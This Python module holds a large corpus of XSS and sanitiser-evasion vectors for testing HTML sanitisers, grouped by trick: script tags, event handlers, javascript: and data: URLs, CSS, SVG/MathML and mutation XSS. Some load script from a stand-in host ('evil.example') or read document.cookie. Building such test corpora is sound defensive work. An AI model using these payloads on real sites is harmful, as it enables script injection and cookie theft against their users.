"""Known ways to smuggle something active through a sanitiser, by the trick that they play.

After OWASP's filter evasion and prevention cheat sheets, html5sec.org, PortSwigger's list, the tests and
advisories of DOMPurify, bleach, nh3/ammonia and lxml_html_clean, and papers on mutation (Heiderich et al., 2013: mXSS).
A vector stands on a line; ␤ in it is a line break.
"""

# ruff: noqa: E501 - a vector is a line

_PLAIN = """
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>
<script/xss src="https://evil.example/x.js"></script>
<script src=//evil.example/.j>
<scr<script>ipt>alert(1)</scr</script>ipt>
<<SCRIPT>alert("XSS");//<</SCRIPT>
<script>alert(1)//
<script\t>alert(1)</script>
</script><script>alert(1)</script>
<script type="text/javascript">alert(1)</script >
<script>/* */alert(1)/* </script>*/
<script>a=/XSS/␤alert(a.source)</script>
<script \x00>alert(1)</script>
<\x00script>alert(1)</script>
<script src="data:text/javascript,alert(1)"></script>
<script type=module>import "https://evil.example/x.js"</script>
<script nomodule>alert(1)</script>
<script>alert&lpar;1&rpar;</script>
<ScRiPt>alert(1)</sCrIpT>
<xss><script>alert(1)</script></xss>
<!--<script>--><script>alert(1)</script>-->
%3Cscript%3Ealert(1)%3C/script%3E<script>alert(1)</script>
&lt;script&gt;alert(1)&lt;/script&gt;<script>alert(2)</script>
"""
_HANDLERS = """
<img src=x onerror=alert(1)>
<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>
<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116">
<IMG \"\"\"><SCRIPT>alert("XSS")</SCRIPT>"\\>
<img src=x:x onerror=alert(1) //
<img/src=x/onerror=alert(1)>
<img␤src=x␤onerror␤=␤alert(1)>
<img src=x onerror\x0b=alert(1)>
<img src=x onerror\x0c=alert(1)>
<img src=x `onerror=alert(1)>
<img src=`x` onerror=alert(1)>
<img src='x' 'onerror=alert(1)'>
<img src="x"onerror=alert(1)>
<img src=x alt="a>b" onerror=alert(1)>
<img src="https://a.example/i.png" ONLOAD=alert(1)>
<img src=x onerror=alert(1) onerror=alert(2)>
<img longdesc="javascript:alert(1)" src=x>
<img dynsrc="javascript:alert(1)"><img lowsrc="javascript:alert(1)">
<img srcset="x 1x, javascript:alert(1) 2x" sizes=1 src=x onloadstart=alert(1)>
<image src=x onerror=alert(1)><image href="javascript:alert(1)">
<body onload=alert(1)>
<BODY BACKGROUND="javascript:alert('XSS')">
<body onscroll=alert(1)><br><br><br><input autofocus>
<input onfocus=alert(1) autofocus><input type=image src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus><textarea onfocus=alert(1) autofocus><keygen onfocus=alert(1) autofocus>
<video onerror=alert(1)><source></video><video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)></audio><video src=_ onloadstart="alert(1)"></video>
<video poster=javascript:alert(1)//></video><video controls onplay=alert(1) src=x></video>
<details open ontoggle=alert(1)>x</details><summary onclick=alert(1)>y</summary>
<marquee onstart=alert(1)>x</marquee><bgsound src="javascript:alert(1)">
<div onpointerover=alert(1) onmouseenter=alert(1) oncopy=alert(1)>x</div>
<p style="animation-name:x" onanimationstart=alert(1) onwebkitanimationend=alert(1)>x</p>
<a onmouseover="alert(document.cookie)">x</a><a onmouseover=alert(document.cookie)>x</a>
<a href="https://a.example/" onclick="alert(1)" onauxclick=alert(1)>x</a>
<b onbeforescriptexecute=alert(1)>x</b><xss onclick=alert(1) tabindex=1 id=x contenteditable>y</xss>
<table background="javascript:alert(1)" onresize=alert(1)><td background="javascript:alert(1)">x</table>
<form onsubmit=alert(1)><button onclick=alert(1)>x</button></form><button form=x formaction="javascript:alert(1)">x
<isindex action="javascript:alert(1)" type=image><isindex type=image src=1 onerror=alert(1)>
<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>
<dialog open onclose=alert(1)><form method=dialog><button>x</button></form></dialog>
<p popover id=x onbeforetoggle=alert(1)>x</p><button popovertarget=x>y</button>
<slot onslotchange=alert(1)></slot><div><template shadowrootmode=open><script>alert(1)</script></template></div>
<q oncut=alert(1)>x</q><abbr title="x" onwheel=alert(1)>y</abbr><time onclick=alert(1)>z</time>
<track onload=alert(1)><object onerror=alert(1)></object><embed onload=alert(1)>
"""
_ADDRESSES = """
<a href="javascript:alert(1)">x</a>
<a href="JaVaScRiPt:alert(1)">x</a>
<a href=javascript&colon;alert(1)>x</a>
<a href="javascript&#58;alert(1)">x</a>
<a href="javascript&#x3A;alert(1)">x</a>
<a href="javascript&#0000058alert(1)">x</a>
<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>
<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>
<a href="jav\tascript:alert(1)">x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href="jav&Tab;ascript:alert(1)">x</a>
<a href="java&NewLine;script:alert(1)">x</a>
<a href="jav&#x0A;ascript:alert(1)">x</a>
<a href="jav&#x0D;ascript:alert(1)">x</a>
<a href=" &#14;  javascript:alert(1)">x</a>
<a href="\x01javascript:alert(1)">x</a>
<a href="\x1fjavascript:alert(1)">x</a>
<a href="java\x00script:alert(1)">x</a>
<a href="\u2028javascript:alert(1)">x</a>
<a href="\u00a0javascript:alert(1)">x</a>
<a href="\u3000javascript:alert(1)">x</a>
<a href="\ufeffjavascript:alert(1)">x</a>
<a href="ｊａｖａｓｃｒｉｐｔ:alert(1)">x</a>
<a href="javascript\uff1aalert(1)">x</a>
<a href="java\u00adscript:alert(1)">x</a>
<a href="javascript://example.com/%0aalert(1)">x</a>
<a href="javascript://https://example.com/?a=%0aalert(1)">x</a>
<a href="javascript:%61lert(1)">x</a>
<a href="%6aavascript:alert(1)">x</a>
<a href="javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>x
<a href="vbscript:msgbox(1)">x</a>
<a href="livescript:alert(1)">x</a><a href="mocha:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>
<a href="data:image/svg+xml,<svg onload=alert(1)>">x</a>
<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">
<a href="blob:https://example.com/1">x</a><a href="filesystem:https://example.com/1">x</a>
<a href="file:///etc/passwd">x</a><a href="view-source:https://a.example/">x</a>
<a href="feed:javascript:alert(1)">x</a><a href="feed:feed:javascript:alert(1)">x</a>
<a href="view-source:javascript:alert(1)">x</a><a href="jar:https://a.example/x!/y">x</a>
<a href="intent://scan/#Intent;scheme=x;end">x</a><a href="ms-msdt:/id">x</a><a href="tel:1;x=javascript:1">x</a>
<a href="//evil.example/%5c..">x</a><a href="\\\\evil.example\\x">x</a><a href="/\\evil.example">x</a>
<a href="https:javascript:alert(1)">x</a>
<a href="https://user:javascript@evil.example/">x</a>
<a href="mailto:a@b.example?body=<script>alert(1)</script>">x</a>
<a href='https://a.example/"onclick="alert(1)'>x</a>
<a href="https://a.example/'><script>alert(1)</script>">x</a>
<a href="https://a.example/`onclick=alert(1)">x</a>
<a href="https://a.example/&quot; onclick=&quot;alert(1)">x</a>
<a href=https://a.example/?x=<script>alert(1)</script>>x</a>
<a xlink:href="javascript:alert(1)">x</a><a data-href="javascript:alert(1)" ping="javascript:alert(1)">x</a>
<a href="https://a.example/" target=_blank rel=opener>x</a><a href="https://a.example" download=x.exe>y</a>
<area href="javascript:alert(1)"><map name=x><area href="javascript:alert(1)" shape=rect coords=0,0,9,9></map>
<blockquote cite="javascript:alert(1)">x</blockquote><q cite="javascript:alert(1)">x</q><del cite="javascript:1">x</del>
<img src="jav&#x09;ascript:alert(1)"><img src=javascript:alert(1)><IMG SRC="livescript:[code]">
<IMG SRC=`javascript:alert("RSnake says, 'XSS'")`><IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>
<audio src="javascript:alert(1)"></audio><video src="javascript:alert(1)"></video><source src="javascript:alert(1)">
<video><source src="data:text/html,<script>alert(1)</script>" type="text/html"></video>
<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>x</a>
<base href="https://evil.example/"><img src="x.png"><a href="y">z</a>
<iframe src="javascript:alert(1)"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe srcdoc="&lt;img src=x onerror=alert(1)&gt;"></iframe><iframe src="https://evil.example/" </iframe>
<object data="javascript:alert(1)"><param name=src value="javascript:alert(1)"></object>
<embed src="javascript:alert(1)"><embed code="https://evil.example/x.swf" allowscriptaccess=always>
<applet code="javascript:alert(1)"></applet><object classid=clsid:ae24fdae-03c6 codebase="javascript:1"></object>
<link rel=stylesheet href="javascript:alert(1)"><link rel=import href="https://evil.example/"><link rel=preload as=script href=x>
<meta http-equiv="refresh" content="0;url=javascript:alert(1)"><meta http-equiv=Set-Cookie content="a=b">
<meta charset="UTF-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<form action="javascript:alert(1)"><input type=submit></form><form id=x></form><button form=x formaction=javascript:1>
<portal src="javascript:alert(1)"></portal><fencedframe></fencedframe><layer src="https://evil.example/"></layer>
"""
_STYLES = """
<div style="background-image:url(javascript:alert(1))">x</div>
<div style="width:expression(alert(1));">x</div>
<div style="background-image:\\0075\\0072\\006C\\0028'\\006a\\0061'\\0029">x</div>
<p style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99">x</p>
<style>@import 'https://evil.example/x.css';</style><style>li{list-style-image:url("javascript:alert(1)")}</style>
<style>body{-moz-binding:url("https://evil.example/xss.xml#xss")}</style><XSS STYLE="behavior: url(xss.htc);">
<style><img src="</style><img src=x onerror=alert(1)//">
<style></style/><img src=x onerror=alert(1)></style>
<style>*{x:ｅｘｐｒｅｓｓｉｏｎ(alert(1))}</style><font style="x:expression(alert(1))" color=red>x</font>
<style type=text/css><!-- @import url(https://evil.example) --></style>
<b style="content:url(data:text/html,<script>alert(1)</script>)">x</b>
<div style="list-style:url(https://evil.example/track.gif)">x</div><td style="background:url(//evil.example)">
"""
_SVG = """
<svg onload=alert(1)></svg><svg/onload=alert(1)
<svg><script>alert(1)</script></svg><svg><script href="data:,alert(1)" /></svg>
<svg><script>alert&#40;1&#41;</script></svg><svg><script xlink:href="https://evil.example/x.js"></script></svg>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg><svg><set onbegin=alert(1) attributename=x></svg>
<svg><a><animate attributeName=href values="javascript:alert(1)" /><text>x</text></a></svg>
<svg><use href="data:image/svg+xml;base64,PHN2ZyBpZD0neCc+PC9zdmc+#x"></use></svg>
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>
<svg><image href=x onerror=alert(1)></svg><svg><image xlink:href="javascript:alert(1)"></image></svg>
<svg><style>@import "https://evil.example/x.css"</style></svg><svg><style>{-o-link:'javascript:alert(1)'}</style></svg>
<svg><discard onbegin=alert(1)></svg><svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event=load>alert(1)
<svg xmlns="http://www.w3.org/2000/svg"><g onload="javascript:alert(1)"></g></svg>
<svg><title><style><img src="</style><img src=x onerror=alert(1)>"></title></svg>
<math href="javascript:alert(1)">x</math><math><maction actiontype="statusline#https://a" xlink:href="javascript:1">x
<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>
<math><a xlink:href="//evil.example/x.js">x</a></math><math><mi//xlink:href="data:x,<script>alert(4)</script>">
"""
_MUTATION = """
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><p><style><a id="</style><img src=1 onerror=alert(1)>"></p></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">
<math><mtext><table><mglyph><style><math><table id="</table>"><img src onerror=alert(1)">
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=1>">
<svg><desc><svg><image><image href=x onerror=alert(1)></svg></desc></svg>
<math><mi><style><img src=x onerror=alert(1)></style></mi></math>
<svg><foreignobject><p><style><!--</style><img src=x onerror=alert(1)>--></style></p></foreignobject></svg>
<select><template><style><!--</style><a rel="--></style></template></select><img id=x src onerror=alert(1)>"></a>
<select><iframe></select><img src=x onerror=alert(1)></iframe>
<table><td><select><style></select><img src=x onerror=alert(1)></style></table>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>
<noframes><p title="</noframes><img src=x onerror=alert(1)>"></noframes>
<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>
<plaintext><img src=x onerror=alert(1)></plaintext>
<title><p title="</title><img src=x onerror=alert(1)>"></title>
<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>
<template><s><template><s><img src=x onerror=alert(1)>@shafigullin</s></template></s></template>
<listing>&lt;img src=x onerror=alert(1)&gt;</listing><pre>&lt;img src=x onerror=alert(1)&gt;</pre>
<p>&lt;img src=x onerror=alert(1)&gt;</p><code>&lt;script&gt;alert(1)&lt;/script&gt;</code>
<img alt="``onload=alert(1)"><img alt="x` onerror=`alert(1)" src=x>
<a title="&lt;img src=x onerror=alert(1)&gt;">x</a><abbr title="</abbr><script>alert(1)</script>">x</abbr>
<img alt="</p><script>alert(1)</script>" src="https://a.example/i.png">
<p id="</p><img src=x onerror=alert(1)>" title='"><img src=x onerror=alert(1)>'>x</p>
<a title='"><script>alert(1)</script>' href="https://a.example/">x</a>
<!--><img src=x onerror=alert(1)>--> <!---><img src=x onerror=alert(1)>--> <!--a--!><img src=x onerror=alert(1)>-->
<!-- `<img/src=xx onerror=alert(1)//--!> <!--[if gte IE 4]><script>alert(1)</script><![endif]-->
<!--[if<img src=x onerror=alert(1)//]> --><![if<img src=x onerror=alert(1)//]><![><img src="]><img src=x onerror=alert(1)//">
<comment><img src="</comment><img src=x onerror=alert(1)//">
<![CDATA[<img src=x onerror=alert(1)>]]><svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(1)//"></svg>
<?xml-stylesheet href="javascript:alert(1)"?><?php echo '<script>alert(1)</script>' ?><? foo="><script>alert(1)</script>">
<!DOCTYPE x[<!ENTITY x SYSTEM "https://evil.example/x">]><y>&x;</y><! foo="><script>alert(1)</script>">
</ foo="><script>alert(1)</script>"></><img src=x onerror=alert(1)></!><img src=x onerror=alert(1)>
<% foo><x foo="%><script>alert(1)</script>"><div <!-- onclick=alert(1)>x</div>
<a<script>alert(1)</script> href="javascript:alert(1)">x</a><p/onclick=alert(1)>x</p/><br/onload=alert(1)/>
<b/alt="1"onmouseover=InputBox+1 language=vbs>x</b><x/onclick=alert(1)>y
<img src=">" onerror=alert(1)><img title='>' src='x' onerror='alert(1)'><img src="x" alt=""onerror=alert(1) b="">
"><script>alert(1)</script>
'><img src=x onerror=alert(1)>
</p></div></body></html><script>alert(1)</script>
</style></title></textarea></noscript></template><script>alert(1)</script>
-->'"/></sCript><svG x=">" onload=(co\\u006efirm)``>
jaVasCript:/*-/*`/*\\`/*'/*"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>
<form name=getElementById><input name=parentNode><input name=attributes></form><img name=body id=document>
<a id=x href="https://a.example/"></a><a id=x name=y href="javascript:alert(1)">z</a><p id=__proto__ class=constructor>x</p>
<b><p></b><a href="javascript:alert(1)"><p><b></a><table><a href="javascript:alert(1)"><td></a><img src=x onerror=alert(1)>
<table><tr><script>alert(1)</script><td>x<table><img src=x onerror=alert(1)></table></td></tr></table>
<ruby><rt><script>alert(1)</script></rt></ruby><figure><figcaption onclick=alert(1)>x</figcaption></figure>
<ol start="1 onclick=alert(1)" type="javascript:alert(1)"><li value="x" onclick=alert(1)>y</ol>
<td colspan="2' onclick='alert(1)">x</td><th scope="row" abbr="javascript:alert(1)">y</th>
<p lang='en" onclick="alert(1)' dir='"><script>alert(1)</script>'>x</p>
<time datetime='"><img src=x onerror=alert(1)>'>x</time><img width='1" onerror="alert(1)' src="https://a.example/i.png">
<ｓｃｒｉｐｔ>alert(1)</ｓｃｒｉｐｔ>\uff1cscript\uff1ealert(1)\uff1c/script\uff1e\u2039script\u203aalert(1)
\xbcscript\xbealert(1)\xbc/script\xbe<\u212ascript>alert(1)</\u212ascript><\u017fcript>alert(1)</\u017fcript>
\ud800<script>alert(1)</script>\udfff<img src=x \ud83donerror=alert(1)>
{{constructor.constructor('alert(1)')()}}<p ng-app ng-csp v-html="x" x-on:click="alert(1)" @click="alert(1)">${alert(1)}</p>
<div data-bind="click: alert(1)" hx-get="https://evil.example" hx-on:click="alert(1)">x</div>
"""

VECTORS: tuple[str, ...] = tuple(
    line.replace("␤", "\n")
    for group in (_PLAIN, _HANDLERS, _ADDRESSES, _STYLES, _SVG, _MUTATION)
    for line in group.strip("\n").split("\n")
)
